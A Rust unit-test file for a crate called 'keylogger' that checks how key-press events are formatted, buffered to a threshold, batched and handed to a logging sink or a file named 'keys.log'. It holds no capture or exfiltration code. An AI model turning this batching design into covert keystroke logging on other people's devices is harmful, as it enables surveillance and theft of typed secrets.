use keylogger::dispatch::{join_records, MAX_THRESHOLD};
use keylogger::event::format_record;
use keylogger::{Dispatcher, FileLogger, InputEvent, Log, LogError};
use std::sync::Mutex;

fn press(k: &str) -> InputEvent {
    InputEvent::KeyPress(k.to_string())
}

fn release(k: &str) -> InputEvent {
    InputEvent::KeyRelease(k.to_string())
}

/// A sink that keeps every payload it is given, or refuses them all.
struct Recorder {
    payloads: Mutex<Vec<String>>,
    fail: bool,
}

impl Recorder {
    fn new(fail: bool) -> Self {
        Recorder { payloads: Mutex::new(Vec::new()), fail }
    }
}

impl Log for Recorder {
    fn log(&self, data: &str) -> Result<(), LogError> {
        if self.fail {
            return Err(LogError { message: "refused".to_string() });
        }
        self.payloads.lock().unwrap().push(data.to_string());
        Ok(())
    }
}

fn feed(d: &mut Dispatcher, events: &[InputEvent]) -> Vec<String> {
    let mut out = Vec::new();
    for e in events {
        if let Some(p) = d.accept(e) {
            out.push(p);
        }
    }
    out
}

#[test]
fn record_is_key_and_newline() {
    assert_eq!(format_record("KeyA"), "KeyA\n");
    assert_eq!(format_record(""), "\n");
}

#[test]
fn join_keeps_order() {
    let recs = vec!["a\n".to_string(), "b\n".to_string(), "c\n".to_string()];
    assert_eq!(join_records(&recs), "a\nb\nc\n");
    assert_eq!(join_records(&Vec::new()), "");
}

#[test]
fn new_dispatcher_is_empty() {
    let d = Dispatcher::new(8);
    assert_eq!(d.threshold(), 8);
    assert_eq!(d.len(), 0);
    assert!(d.buffered_records().is_empty());
}

#[test]
fn scenario_threshold_two_with_release() {
    let mut d = Dispatcher::new(2);
    let out = feed(&mut d, &[press("a"), release("x"), press("b"), press("c")]);
    assert_eq!(out, vec!["a\nb\n".to_string()]);
    assert_eq!(d.buffered_records(), vec!["c\n".to_string()]);
}

#[test]
fn batches_of_threshold_in_order() {
    let mut d = Dispatcher::new(3);
    let keys = ["1", "2", "3", "4", "5", "6", "7"];
    let events: Vec<InputEvent> = keys.iter().map(|k| press(k)).collect();
    let out = feed(&mut d, &events);
    assert_eq!(out, vec!["1\n2\n3\n".to_string(), "4\n5\n6\n".to_string()]);
    assert_eq!(d.buffered_records(), vec!["7\n".to_string()]);
}

#[test]
fn exact_multiple_leaves_buffer_empty() {
    let mut d = Dispatcher::new(2);
    let out = feed(&mut d, &[press("a"), press("b"), press("c"), press("d")]);
    assert_eq!(out.len(), 2);
    assert_eq!(d.len(), 0);
}

#[test]
fn threshold_one_flushes_every_press() {
    let mut d = Dispatcher::new(1);
    let out = feed(&mut d, &[press("a"), release("a"), press("b"), InputEvent::Other, press("c")]);
    assert_eq!(out, vec!["a\n".to_string(), "b\n".to_string(), "c\n".to_string()]);
    assert_eq!(d.len(), 0);
}

#[test]
fn other_events_never_flushed() {
    let mut d = Dispatcher::new(2);
    let events = [
        release("q"),
        press("a"),
        InputEvent::Other,
        release("a"),
        release("w"),
        press("b"),
        release("b"),
    ];
    let out = feed(&mut d, &events);
    assert_eq!(out, vec!["a\nb\n".to_string()]);
    assert_eq!(d.len(), 0);
}

#[test]
fn events_other_than_presses_change_nothing() {
    let mut d = Dispatcher::new(1);
    assert_eq!(d.accept(&release("a")), None);
    assert_eq!(d.accept(&InputEvent::Other), None);
    assert_eq!(d.len(), 0);
}

#[test]
fn largest_threshold_buffers_without_flushing() {
    let mut d = Dispatcher::new(MAX_THRESHOLD);
    for _ in 0..1000 {
        assert_eq!(d.accept(&press("k")), None);
    }
    assert_eq!(d.len(), 1000);
    assert_eq!(d.threshold(), 1_000_000);
}

#[test]
fn dispatch_hands_payload_to_sink() {
    let sink = Recorder::new(false);
    let mut d = Dispatcher::new(2);
    assert!(d.dispatch(&sink, &press("a")).is_ok());
    assert!(sink.payloads.lock().unwrap().is_empty());
    assert!(d.dispatch(&sink, &release("a")).is_ok());
    assert!(d.dispatch(&sink, &press("b")).is_ok());
    assert!(d.dispatch(&sink, &press("c")).is_ok());
    assert!(d.dispatch(&sink, &press("d")).is_ok());
    assert_eq!(*sink.payloads.lock().unwrap(), vec!["a\nb\n".to_string(), "c\nd\n".to_string()]);
    assert_eq!(d.len(), 0);
}

#[test]
fn dispatch_reports_sink_error_and_drops_batch() {
    let sink = Recorder::new(true);
    let mut d = Dispatcher::new(2);
    assert!(d.dispatch(&sink, &press("a")).is_ok());
    let err = d.dispatch(&sink, &press("b")).unwrap_err();
    assert_eq!(err.to_string(), "refused");
    assert_eq!(d.len(), 0);
}

#[test]
fn file_logger_keeps_its_path() {
    let logger = FileLogger::new(std::path::PathBuf::from("keys.log"));
    assert_eq!(logger.recorder_file, std::path::PathBuf::from("keys.log"));
}
